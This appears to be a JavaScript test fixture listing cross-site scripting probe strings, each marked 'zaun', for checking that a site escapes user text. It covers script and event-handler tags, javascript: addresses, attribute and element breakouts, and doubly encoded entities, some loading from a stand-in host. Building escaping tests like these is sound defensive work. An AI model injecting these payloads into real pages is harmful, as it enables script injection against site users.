/**
 * Markup that would run or break out if it stood on a page as it was typed, in every place where our pages put words:
 * text, attribute values, addresses, textareas, titles, scripts and styles. Written for these fields; each carries the
 * mark `zaun`, by which a page tells whether it was shown, and each calls for a dialog if it ever runs.
 */
const inText = [
  "<script>alert('zaun')</script>",
  "<ScRiPt>alert('zaun')</sCrIpT>",
  "<script src=//fremd.example/zaun.js></script>",
  "<script>alert('zaun')//",
  "<scr<script>ipt>alert('zaun')</scr</script>ipt>",
  "<script\n>alert('zaun')</script\n>",
  "<script/zaun>alert(1)</script>",
  '<script type="module">alert("zaun")</script>',
  "<img src=x onerror=alert('zaun')>",
  "<img/src/onerror=alert('zaun')>",
  "<img src=x:x onerror\n=\nalert('zaun')>",
  "<img srcset=//fremd.example/zaun.png>",
  "<svg onload=alert('zaun')>",
  "<svg><script>alert('zaun')</script></svg>",
  "<svg><animate onbegin=alert('zaun') attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=z onload=alert(/zaun/)>#z'/>",
  "<math><mi zaun xlink:href=\"javascript:alert('zaun')\">x</mi></math>",
  "<iframe src=javascript:alert('zaun')></iframe>",
  '<iframe srcdoc="<script>parent.alert(/zaun/)</script>"></iframe>',
  "<object data=javascript:alert('zaun')></object>",
  "<embed src=//fremd.example/zaun.swf>",
  "<body onload=alert('zaun')>",
  "<details open ontoggle=alert('zaun')>x</details>",
  "<video><source onerror=alert('zaun')></video>",
  "<audio src=x onerror=alert('zaun')>",
  "<input autofocus onfocus=alert('zaun')>",
  "<select autofocus onfocus=alert('zaun')>",
  "<marquee onstart=alert('zaun')>zaun</marquee>",
  "<a href=javascript:alert('zaun')>zaun</a>",
  "<a href='jav&#x09;ascript:alert(/zaun/)'>zaun</a>",
  "<form action=//fremd.example/zaun><button>zaun</button></form>",
  "<base href=//fremd.example/zaun/>",
  "<meta http-equiv=refresh content='0;url=//fremd.example/zaun'>",
  "<link rel=stylesheet href=//fremd.example/zaun.css>",
  "<style>@import'//fremd.example/zaun.css';</style>",
  "<p style=background:url(//fremd.example/zaun.png)>zaun</p>",
  "<zaun-probe>zaun</zaun-probe>",
  "<template shadowrootmode=open><zaun-probe></zaun-probe></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(/zaun/)>'>",
  "<!--><img src=x onerror=alert('zaun')>-->",
  "<![CDATA[><img src=x onerror=alert('zaun')>]]>",
  "<?xml version='1.0'?><zaun-probe/>",
];

const outOfAttributes = [
  '" onfocus="alert(/zaun/)" autofocus="',
  "' onfocus='alert(/zaun/)' autofocus='",
  " zaun=1 onmouseover=alert(1) ",
  '" zaun="1',
  "' zaun='1",
  '"><zaun-probe>',
  "'><zaun-probe>",
  "`><zaun-probe>",
  '" style="position:fixed;zaun:1',
  '"/onclick=alert(/zaun/) x="',
];

const outOfElements = [
  "</textarea><script>alert('zaun')</script>",
  "</title><script>alert('zaun')</script>",
  "</option></select><zaun-probe>",
  "</script><script>alert('zaun')</script>",
  "</style><zaun-probe>",
  "--><zaun-probe><!--",
  "</template><zaun-probe>",
];

/** For fields that become an address. Nothing but the web's own kinds may ever stand behind a link. */
export const scriptAddresses = [
  "javascript:alert('zaun')",
  "JaVaScRiPt:alert('zaun')",
  "java\tscript:alert('zaun')",
  " javascript:alert('zaun')",
  "data:text/html,<script>alert('zaun')</script>",
  "vbscript:msgbox('zaun')",
];

/** Entities that a second turn of unescaping would bring to life. */
const twice = [
  "&lt;script&gt;alert('zaun')&lt;/script&gt;",
  "&#60;img src=x onerror=alert('zaun')&#62;",
  "\\u003cscript\\u003ealert('zaun')\\u003c/script\\u003e",
  "%3Cscript%3Ealert('zaun')%3C/script%3E",
  "\uff1cscript\uff1ealert('zaun')\uff1c/script\uff1e",
  "+ADw-script+AD4-alert('zaun')+ADw-/script+AD4-",
];

export const markup: readonly string[] = [...inText, ...outOfAttributes, ...outOfElements, ...twice];
